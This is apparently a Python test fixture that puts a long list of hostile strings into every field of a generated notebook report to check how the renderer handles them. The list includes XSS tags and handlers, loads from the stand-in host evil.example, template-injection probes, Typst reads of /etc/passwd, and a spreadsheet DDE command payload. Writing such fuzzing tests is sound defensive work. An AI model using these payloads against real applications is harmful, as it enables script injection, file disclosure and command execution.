# ruff: noqa: E501
"""Texts that try to be something else than text, and a report that holds one of them wherever text can stand.

Comes in: a payload. Goes out: an executed notebook with it in every field and every kind of output.
"""

from __future__ import annotations

from html import escape
from typing import Any

import render_samples as samples

_TAGS = [
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<body onload=window.hit=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=a></form>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<video src=//evil.example/x autoplay>",
    "<a href=javascript:window.hit=1>a</a>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<textarea><script>window.hit=1</script>",
    "<template><script>window.hit=1</script></template>",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hit=1</x:script>",
    "<foreignObject><script>window.hit=1</script></foreignObject>",
    "<use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/>",
    "<animate onbegin=window.hit=1 attributeName=x>",
    "<set attributeName=href to=javascript:window.hit=1>",
]
_BREAKOUTS = [
    "'",
    '"',
    "`",
    "-->",
    "*/",
    "]]>",
    "</style>",
    "</script>",
    "</title>",
    "</svg>",
    "</text>",
    "\\",
    "%22",
    "&quot;",
    "&lt;",
]
_JINJA = [
    "{{ 7*7 }}",
    "{% raw %}",
    "{# note #}",
    "{{ cover.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "{page} {pages} {client}",
    "%(a)s %s %d",
]
_TYPST = [
    '#read("/etc/passwd")',
    '#image("/etc/passwd")',
    '#import "@preview/x:1.0.0"',
    '#include "report.typ"',
    '#eval("1+1")',
    '#panic("hit")',
    "#pagebreak()",
    "#let x = 1",
    "#set page(fill: red)",
    "#show: it => none",
    "= Heading",
    "== Heading",
    "*bold* _emph_ `raw`",
    "$ x^2 / 0 $",
    "<label> @ref",
    '#label("overview")',
    "// comment",
    "/* comment",
    "\\u{1F600} \\ ~ --- ...",
    '#json("document.json")',
    "#sys.inputs",
    "#(while true {})",
    "]#x[",
    ")#x(",
    "#{",
    '```typ #read("x")```',
    "#metadata((1,)) <piece>",
    "#counter(page).update(99)",
    '#link("https://evil.example")[x]',
    '#plugin("x.wasm")',
]
_MARKDOWN = [
    "[x](javascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "![x](https://evil.example/x.png)",
    "![x](file:///etc/passwd)",
    "<https://evil.example>",
    "[x]: https://evil.example",
    "[^1]: note",
    "[^1][^1]",
    "# heading",
    "- list",
    "> quote",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "***",
    "```\ncode\n```",
    "~~~",
    "$\\input{/etc/passwd}$",
    "$\\frac{1}{$",
    "$$\\begin{matrix}$$",
    "$x_{" * 40,
    "term\n: definition",
    "\\",
    "&#60;script&#62;",
    "&nbsp;&copy;",
    "[x](#nowhere)",
    "[x](vbscript:x) [y](JaVaScRiPt:x) [z](\tjavascript:x)",
]
_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "{=A1}",
]
_SPELLINGS = [
    "NaN",
    "nan",
    "inf",
    "-inf",
    "None",
    "null",
    "undefined",
    "NaT",
    "<NA>",
    "true",
    "1e309",
    "0x41",
    "٣٫١٤",
    "۱۲۳",
    "一二三",
]
_WORDS = [
    "x" * 10_000,
    "W" * 500,
    "/" * 300,
    "https://example.com/" + "a" * 400,
    "語" * 2_000,
    "a_b" * 400,
    "-" * 900,
    "&" * 300,
    "<" * 300,
    "ى" * 500,
]
_EMOJI = [
    "🎉", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴‍☠️", "🇹🇷🇮🇩", "👍🏽", "1️⃣", "❤️", "☠", "🫠🫡", "🧑🏿‍🚀", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "😀" * 400, "©️®️™️", "⏏️⏩", "🀄🃏", "✅❌", "⬆️↗️", "🕶️🔥", "\U0001fae8\U0001fabf",
]  # fmt: skip
_SCRIPTS = [
    "مرحبا بالعالم", "שלום עולם", "हिन्दी में", "ภาษาไทย", "ქართული", "Հայերեն", "አማርኛ", "ខ្មែរ", "မြန်မာ", "සිංහල", "தமிழ்", "తెలుగు", "বাংলা",
    "한국어 텍스트", "日本語の文章", "Ελληνικά", "Русский", "Tiếng Việt", "İstanbul ığüşöç", "𐎀𐎁𐎂", "𓀀𓁐", "ꙮ", "𝓐𝓑𝓒 𝟙𝟚", "ﷺ ﷽", "ẞ ŉ ǆ",
]  # fmt: skip
_CONTROLS = [
    "a\x00b", "a\x07b", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x7fb", "a\x85b", "a\u2028b\u2029c", "a\ufeffb", "a\u200bb\u200cb\u200db", "a\u00adb",
    "\u202eevil", "\u202a\u202b\u202d\u202e", "\u2066\u2067\u2068x", "\u2069\u2069x", "\u200e\u200f\u061c", "\ue000\uf8ff", "\U000f0000", "\ufdd0\uffff", "\ud800", "\udfff\ud800",
    "Z" + "\u0301\u0302\u0303" * 60, "\u115f\u3164\uffa0", "a\tb\r\nc\rd", "   ", "\n\n\n", "\u3000", "\ufffc\ufffd", "\u0378", "\U000e0001x", "a\u034fb", "\u180e",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        _TAGS
        + [f"a{text}b" for text in _BREAKOUTS]
        + [f"{text}<script>window.hit=1</script>" for text in _BREAKOUTS]
        + _JINJA
        + _TYPST
        + _MARKDOWN
        + _FORMULAS
        + _SPELLINGS
        + _WORDS
        + _EMOJI
        + _SCRIPTS
        + _CONTROLS
    )
)


def notebook(text: str) -> dict[str, Any]:
    """An executed notebook with this text in every field that a client's data or an analyst can reach."""
    figure = samples.figure("f", text) | {
        "subtitle": text,
        "alt": text,
        "note": text,
        "columns": [{"label": text, "align": "left"}],
        "rows": [[text]],
    }
    legal = "".join(char for char in text if char.isprintable())
    inside = f">{escape(legal)[:400]}</text></svg>"
    figure["svg"] = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="80pt" height="20pt" viewBox="0 0 80 20"><text x="2" y="12" style="font-size: 7px"'
        + inside
    )
    figure["svg_phone"] = figure["svg"]
    change = {"arrow": "up", "judge": "good", "amount": text, "word": text, "versus": text}
    card = samples.card(
        text,
        text,
        change=change,
        target=samples.target(text, text, 0.5, "bad", text),
        benchmark=text,
        note=text,
        no_change=text,
        no_target=text,
    )
    missing = samples.card(text, text, missing={"reason": text, "remedy": text})
    cell = {"text": text, "mark": text, "sort": None}
    table = {
        "id": text,
        "title": text,
        "subtitle": text,
        "columns": [
            samples.column(text, width="rest"),
            samples.column(text),
            samples.column(text, "right", 20, "number"),
        ],
        "rows": [[cell, cell | {"network": text}, cell | {"status": "good"}]] * 4,
        "total": [cell] * 3,
        "notes": [text],
        "limit": 3,
    }
    display = {
        "output_type": "display_data",
        "metadata": {"alt": text},
        "data": {"text/html": f"<table><tr><td>{escape(text)}</td></tr></table>"},
    }
    raw = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": f"<table><tr><td>{text}</td></tr></table>", "text/plain": text},
    }
    return samples.notebook(
        samples.opening(
            client=text,
            agency=text,
            title=text,
            period=text,
            headline=text,
            data_line=text,
            compare=text,
            motif={"label": text, "values": [0.5], "current": [True]},
        ),
        samples.chapter(text, text, text, text),
        samples.bundle("cards", {"id": text, "size": "third", "cards": [card, missing]}),
        samples.bundle("cards", {"id": text, "size": "quarter", "cards": [card, missing]}),
        samples.bundle(
            "insights", {"id": text, "title": text, "layout": "columns", "items": [{"lead": text, "text": text}] * 2}
        ),
        samples.bundle("table", table),
        samples.bundle("figure", figure),
        samples.bundle("figures", {"id": text, "figures": [figure | {"slot": "half", "width_mm": 83}] * 2}),
        samples.bundle("absent", {"id": text, "title": text, "reason": text, "remedy": text}),
        samples.bundle("legend", {"items": [{"sign": "better", "text": text}]}),
        samples.prose(text),
        samples.prose(f"## {text}"),
        samples.code(display),
        samples.code(raw),
        samples.code({"output_type": "stream", "name": "stdout", "text": text}),
        samples.code({"output_type": "error", "ename": text, "evalue": text, "traceback": []}),
        samples.bundle(
            "notes",
            {
                "definitions": [{"id": text, "name": text, "definition": text, "formula": text, "detail": text}],
                "missing": [{"name": text, "reason": text, "period": text}],
                "sources": [{"source": text, "table": text, "span": text, "rows": 1, "note": text}],
                "coverage": None,
                "footnotes": [text],
            },
        ),
    )
